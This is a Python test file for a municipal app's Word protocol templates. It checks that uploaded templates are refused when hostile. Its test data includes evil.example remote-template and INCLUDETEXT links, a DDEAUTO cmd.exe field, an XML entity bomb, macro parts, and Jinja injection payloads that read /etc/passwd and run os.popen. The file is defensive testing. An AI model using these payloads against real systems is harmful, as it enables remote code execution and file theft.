"""The protocol as a Word file, by a template that the municipality edits; hostile templates (R50)."""

import io
import zipfile

import pytest
from docx import Document
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.core import documents
from app.core.apart import Refused, TooHeavy
from app.core.db import session
from app.core.unit import unit
from app.walks.shapes import word
from app.walks.tables import WalkTemplate
from tests.walks import word_template
from tests.walks.protocolled import HOSTILE, finding, findings, roles_and_steps

SHIPPED = word_template.FILE.read_bytes()
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def text_of(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return "\n".join([*(p.text for p in document.paragraphs), *cells])


def with_text(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(content: bytes = SHIPPED, **parts: bytes) -> bytes:
    """The same file with parts put in or exchanged; __ stands for / and _dot_ for a dot."""
    given = {name.replace("__", "/").replace("_dot_", "."): new for name, new in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for name in old.namelist():
            new.writestr(name, given.pop(name, None) or old.read(name))
        for name, part in given.items():
            new.writestr(name, part)
    return out.getvalue()


def relation(kind: str, target: str) -> bytes:
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{RELS}">{one}</Relationships>'.encode()


def outside(kind: str, target: str) -> bytes:
    return changed(word___rels__settings_dot_xml_dot_rels=relation(kind, target))


def document_xml(inner: str, head: str = "") -> bytes:
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    whole = f'<w:document xmlns:w="{w}"><w:body>{inner}</w:body></w:document>'
    return changed(word__document_dot_xml=(head + whole).encode())


def field(text: str) -> bytes:
    return document_xml(f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>")


BOMB = '<!DOCTYPE z [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
CONTENT_TYPES = zipfile.ZipFile(io.BytesIO(SHIPPED)).read("[Content_Types].xml")
MACRO_TYPES = CONTENT_TYPES.replace(
    documents.MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
)
NO_WORD = "inget Worddokument"
OUT = "hämtar något utifrån"
HOSTILE_FILES = {
    "nothing": (b"", "Välj en Wordfil"),
    "text": (b"hej", NO_WORD),
    "cut off": (SHIPPED[:9000], NO_WORD),
    "too big": (b"PK" + b"x" * 2_000_000, "för stor"),
    "old or locked": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 900, "gammal eller låst"),
    "bomb": (changed(word__media__x_dot_png=b"\0" * 30_000_000), "för stor"),
    "many parts": (changed(**{f"x{n}": b"x" for n in range(500)}), "för stor"),
    "macro part": (changed(word__vbaProject_dot_bin=b"x"), "makron"),
    "macro type": (changed(**{"[Content_Types]_dot_xml": MACRO_TYPES}), "makron"),
    "activex": (changed(word__activeX__activeX1_dot_xml=b"<a/>"), "makron"),
    "embedded": (changed(word__embeddings__a_dot_xlsx=b"x"), "annan fil (a.xlsx)"),
    "remote template": (outside("attachedTemplate", "http://evil.example/x.dotm"), OUT),
    "remote photo": (outside("image", "http://evil.example/x.png"), OUT),
    "share": (outside("hyperlink", "file://evil.example/x"), OUT),
    "script link": (outside("hyperlink", "javascript:alert(1)"), OUT),
    "dde": (field("DDEAUTO c:\\\\cmd.exe"), OUT),
    "include": (field('INCLUDETEXT "http://evil.example"'), OUT),
    "entities": (document_xml("<w:p/>", BOMB), NO_WORD),
    "not xml": (changed(word__document_dot_xml=b"<w:document"), NO_WORD),
    "unknown name": (with_text("{{ personnummer }}"), "namnger personnummer, som inte finns"),
    "unknown in list": (with_text("{% for f in findings %}{{ f.namn }}{% endfor %}"), "namnger namn"),
    "broken": (with_text("{{ title"), "går inte att läsa"),
    "unclosed": (with_text("{% for f in findings %}"), "går inte att läsa"),
    "include file": (with_text('{% include "/etc/passwd" %}'), "går inte att läsa"),
    "class": (with_text("{{ title.__class__.__mro__ }}"), "inte får läsa"),
    "call": (with_text("{{ ''.__class__.__base__.__subclasses__() }}"), "inte får läsa"),
    "format": (with_text("{{ '{0.__class__.__init__}'.format(title) }}"), ""),
    "globals": (with_text("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "inte får"),
    "memory": (with_text("{{ 'x' * 10 ** 10 }}"), ""),
    "divide": (with_text("{{ 1 / 0 }}"), "går inte att läsa"),
}  # fmt: skip


def send(client, content: bytes, name: str = "Vår mall.docx"):
    """Encoded here: the test client would leave a large file open."""
    boundary, body = encode_multipart({"mall": FileStorage(io.BytesIO(content), name)})
    kind = f'multipart/form-data; boundary="{boundary}"'
    return client.post("/protokollmall", data=body, content_type=kind)


def word_file(client, walk, query=""):
    return client.get(f"/vandring/{walk.number}/protokoll.docx{query}")


@pytest.fixture
def decided(walk, people):
    roles_and_steps(walk)
    findings(walk, people.organisations)
    return walk


def test_the_template_that_ships_is_the_one_that_the_house_makes():
    made, kept = (zipfile.ZipFile(io.BytesIO(one)) for one in (word_template.made(), SHIPPED))
    for part in ("word/document.xml", "word/header1.xml"):
        assert made.read(part) == kept.read(part)


@pytest.mark.slow
def test_the_word_file_says_what_the_page_says(signed_in, decided):
    answer = word_file(signed_in("karin"), decided)
    assert answer.status_code == 200
    said = text_of(answer.data)
    for words in ("Protokoll: Centrum i november", "Två lampor", "KS 2026/123", "Utkast", "vme"):
        assert words in said
    inner = Document(io.BytesIO(answer.data)).core_properties
    assert (inner.language, inner.title) == ("sv-SE", "Protokoll: Centrum i november")


@pytest.mark.slow
def test_the_public_word_file_leaves_out_what_is_restricted(signed_in, decided):
    karin = signed_in("karin")
    assert "Låset är svagt." in text_of(word_file(karin, decided).data)
    public = text_of(word_file(karin, decided, "?version=offentlig").data)
    assert "Låset är svagt." not in public
    assert "Kanyler vid bänken." not in public


@pytest.mark.slow
def test_what_people_wrote_is_no_template(signed_in, decided):
    with unit():
        for number, text in enumerate([*HOSTILE, "{{ title.__class__ }}", "<w:p>&amp;</w:p>"], 20):
            session.add(finding(decided.row, number, text=text, proposal=""))
    said = text_of(word_file(signed_in("karin"), decided).data)
    assert "{{ 7 * 7 }}" in said
    assert "{{ title.__class__ }}" in said
    assert "<w:p>&amp;</w:p>" in said
    assert "\u202e" not in said


@pytest.mark.slow
def test_a_municipality_makes_its_protocols_with_a_template_of_its_own(signed_in, decided):
    karin = signed_in("karin")
    own = with_text("Köpings eget huvud", "{{ title }}", "{{ findings[0].text }}")
    assert send(karin, own).status_code == 303
    said = text_of(word_file(karin, decided).data)
    assert said.startswith("Köpings eget huvud\nProtokoll: Centrum i november\nTvå lampor")
    assert "Vår mall.docx" in karin.get("/protokollmall").text
    assert karin.get("/protokollmall.docx").data == own
    assert karin.get("/protokollmall.docx?original=1").data == SHIPPED
    assert karin.post("/protokollmall/aterstall").status_code == 303
    assert karin.get("/protokollmall.docx").data == SHIPPED
    assert all(row.content == b"" for row in session.query(WalkTemplate))


def test_the_template_that_ships_can_be_sent_in_again(signed_in, people):
    assert send(signed_in("karin"), SHIPPED).status_code == 303
    assert signed_in("hedda").get("/protokollmall.docx").data == SHIPPED


def test_a_link_that_people_may_press_is_no_harm(signed_in):
    assert send(signed_in("karin"), outside("hyperlink", "https://koping.se")).status_code == 303


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE_FILES)
def test_R50_a_hostile_template_is_refused_in_a_sentence_and_changes_nothing(signed_in, name):
    content, told = HOSTILE_FILES[name]
    answer = send(signed_in("karin"), content)
    assert answer.status_code == 422, answer.status_code
    assert told in answer.text
    assert session.query(WalkTemplate).count() == 0


@pytest.mark.parametrize("name", ["bomb", "macro type", "remote template"])
def test_R50_what_is_seen_from_outside_is_seen_at_once(name):
    with pytest.raises(documents.No):
        documents.look_through(HOSTILE_FILES[name][0])


@pytest.mark.slow
def test_R50_a_template_that_never_ends_is_stopped(monkeypatch):
    monkeypatch.setattr(documents, "SECONDS", 1)
    endless = "{% for a in range(99999) %}" * 3 + "{{ a }}" + "{% endfor %}" * 3
    with pytest.raises((TooHeavy, Refused)):
        documents.filled(with_text(endless), word.sample("sv"))


def test_only_the_coordinator_changes_the_template(client, signed_in):
    assert "/logga-in" in client.get("/protokollmall").headers["Location"]
    for name in ("petra", "nils", "stina", "olle"):
        assert signed_in(name).get("/protokollmall").status_code == 404
        assert send(signed_in(name), SHIPPED).status_code == 404
    assert session.query(WalkTemplate).count() == 0


def test_the_word_file_is_for_those_who_lead_the_walk(client, signed_in, walk):
    assert "/logga-in" in word_file(client, walk).headers["Location"]
    for name in ("hedda", "stina", "petra"):
        assert word_file(signed_in(name), walk).status_code == 404
